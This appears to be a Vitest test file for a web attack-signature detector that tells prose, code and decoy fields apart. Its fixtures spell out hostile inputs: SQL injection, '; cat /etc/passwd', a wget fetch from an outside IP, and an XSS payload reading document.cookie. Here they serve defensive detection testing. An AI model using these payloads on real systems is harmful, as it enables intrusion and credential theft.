import { expect, test } from 'vitest';
import { declaredField, decoyField, type FieldKind } from '../../../src/attacks/fields/field-kind.ts';
import { findSignatures } from '../../../src/attacks/find-signatures.ts';
import { signatures } from '../../../src/attacks/signatures/registry.gen.ts';

const found = (text: string, kind: FieldKind): readonly string[] => {
  const request = { method: 'POST', path: '/', query: '', headers: {}, contentType: 'application/json' };
  const body = JSON.stringify({ id: 7, comment: text });
  return findSignatures({ ...request, body }, signatures, null, () => kind).matches.map(({ type }) => type);
};

/** Each quotes an attack for people to read. */
const TALK: readonly string[] = [
  "Typing ' or 1=1 -- into the form should show an error now, as we said in the meeting",
  "You can try it with ' or 1=1 -- and look at what the page says then",
  'This is what I get:\n```sh\ncd app; cat /etc/passwd | grep root\n```\nWhat can I do?',
];

test.each(TALK)('what people quote is no attack in a field of prose: %j', (text) => {
  expect(found(text, 'prose')).toEqual([]);
  expect(found(text, 'unknown')).not.toEqual([]);
});

test('a field of prose excuses words, not an attack without any', () => {
  expect(found("1' UNION SELECT password FROM users-- ", 'prose')).toEqual(['sql_injection']);
});

test.each([
  ["1' UNION SELECT password FROM users-- hello to all of you, I wish you a very nice day", 'sql_injection'],
  ['; cat /etc/passwd # and now some words that nobody reads but that are many of them', 'command_injection'],
  ['I like this page of yours a lot <img src=x onerror=alert(document.cookie)> thank you for it', 'xss'],
])('in a field of prose nothing excuses what follows, nor markup that is run: %s', (text, type) => {
  expect(found(text, 'prose')).toEqual([type]);
});

test('in a field of prose a fence that is never closed quotes nothing', () => {
  expect(found("``` 1' UNION SELECT password FROM users-- ", 'prose')).toEqual(['sql_injection']);
});

test('fields are declared by location or by name', () => {
  const kindOf = declaredField({ 'query.code': 'code', comment: 'prose' });
  expect(['query.code', 'body.code', 'body.comment', 'query.comment', 'header.comment'].map(kindOf)).toEqual([
    'code',
    'unknown',
    'prose',
    'prose',
    'unknown',
  ]);
});

test('lines of source are no attack in a field of code, a value on one line may be', () => {
  const source = "const a = 1;\nrun('sh', ['-c', 'cat /etc/passwd']);\nexec('id');";
  expect(found(source, 'code')).toEqual([]);
  expect(found('; cat /etc/passwd', 'code')).toEqual(['command_injection']);
});

test.each([
  ['../', 'path_traversal'],
  ['alert("sale")', 'xss'],
  ['update end or 1=1 you end update with as', 'sql_injection'],
  ['..\\', 'path_traversal'],
  [')(', 'ldap_injection'],
  ['admin)(', 'ldap_injection'],
  ['DROP TABLE users', 'sql_injection'],
  ["insert into users values ('a')", 'sql_injection'],
  ['wget http://203.0.113.9/a', 'command_injection'],
  ['{__schema{types{name}}}', 'nosql_injection'],
  ['query A { __type(name: "B") { name } }', 'nosql_injection'],
])('at a decoy the fragment %j is found', (text, type) => {
  expect(found(text, 'decoy')).toContain(type);
});

test.each([
  ['../', 'path_traversal'],
  ['..\\', 'path_traversal'],
  ['..\\..\\windows', 'path_traversal'],
  [')(', 'ldap_injection'],
  ['admin)(', 'ldap_injection'],
])('the patterns of the specification are found wherever a decoy is sent them: %j', (text, type) => {
  const encoded = encodeURIComponent(text);
  const post = { method: 'POST', path: '/', query: '', headers: {} };
  const part = `--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n${text}\r\n--x--\r\n`;
  const requests = {
    value: { ...post, query: `a=${encoded}`, contentType: '', body: '' },
    'name alone': { ...post, query: text, contentType: '', body: '' },
    json: { ...post, contentType: 'application/json', body: JSON.stringify({ a: [{ b: text }] }) },
    form: { ...post, contentType: 'application/x-www-form-urlencoded', body: `b=1&a=${encoded}` },
    parts: { ...post, contentType: 'multipart/form-data; boundary=x', body: part },
    xml: { ...post, contentType: 'application/xml', body: `<a><b>${text}</b></a>` },
    plain: { ...post, contentType: 'text/plain', body: text },
    header: { ...post, headers: { 'x-id': text }, contentType: '', body: '' },
    cookie: { ...post, headers: { cookie: `a=1; b=${text}` }, contentType: '', body: '' },
    path: { ...post, path: `/files/${text}`, contentType: '', body: '' },
  };
  const types = Object.entries(requests).map(([place, request]) => [
    place,
    ...new Set(findSignatures(request, signatures, null, decoyField).matches.map((match) => match.type)),
  ]);
  expect(types).toEqual(Object.keys(requests).map((place) => [place, type]));
});

test.each([
  ['user-agent', 'curl'],
  ['user-agent', 'wget/1.21'],
  ['referer', 'https://shop.example/a/../b'],
])('at a decoy a header that merely says so is no attack: %s: %s', (name, value) => {
  const request = { method: 'GET', path: '/ls', query: '', headers: { [name]: value }, contentType: '', body: '' };
  expect(findSignatures(request, signatures, null, decoyField).matches).toEqual([]);
});

test('at a decoy what browsers send to everybody is no attack', () => {
  const headers = {
    'user-agent':
      'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36',
    'sec-ch-ua': '"Not/A)Brand";v="8", "Chromium";v="126"',
    accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8',
    cookie: 'theme=dark; consent={"a":1}',
  };
  const login = { method: 'POST', path: '/wp-login.php', query: 'redirect_to=%2Fwp-admin%2F', headers };
  const body = 'log=ann%40example.org&pwd=correct+horse&rememberme=forever';
  const request = { ...login, contentType: 'application/x-www-form-urlencoded', body };
  expect(findSignatures(request, signatures, null, decoyField).matches).toEqual([]);
});

test('at a decoy nothing is taken from the certainty of a piece', () => {
  const text = 'hello to all my friends ;wget http://203.0.113.9/a';
  const confidence = (kind: FieldKind): number => {
    const request = { method: 'POST', path: '/', query: '', headers: {}, contentType: 'text/plain', body: text };
    return findSignatures(request, signatures, null, () => kind).matches[0]?.confidence ?? 0;
  };
  expect(confidence('unknown')).toBeGreaterThanOrEqual(0.5);
  expect(confidence('decoy')).toBeGreaterThan(confidence('unknown'));
});

test.each(TALK)(
  'what a field of prose excuses, one of the same name elsewhere in the document does not: %j',
  (text) => {
    const request = { method: 'POST', path: '/', query: '', headers: {}, contentType: 'application/json' };
    const body = JSON.stringify({
      review: { comment: text },
      order: { comment: text },
      items: Array.from({ length: 50 }, (_, index) => `item ${index}`),
    });
    const kindOf = (location: string) => (location === 'body.review.comment' ? 'prose' : 'unknown');
    const { matches } = findSignatures({ ...request, body }, signatures, null, kindOf);
    expect([...new Set(matches.map(({ location }) => location))]).toEqual(['body.order.comment']);
  },
);
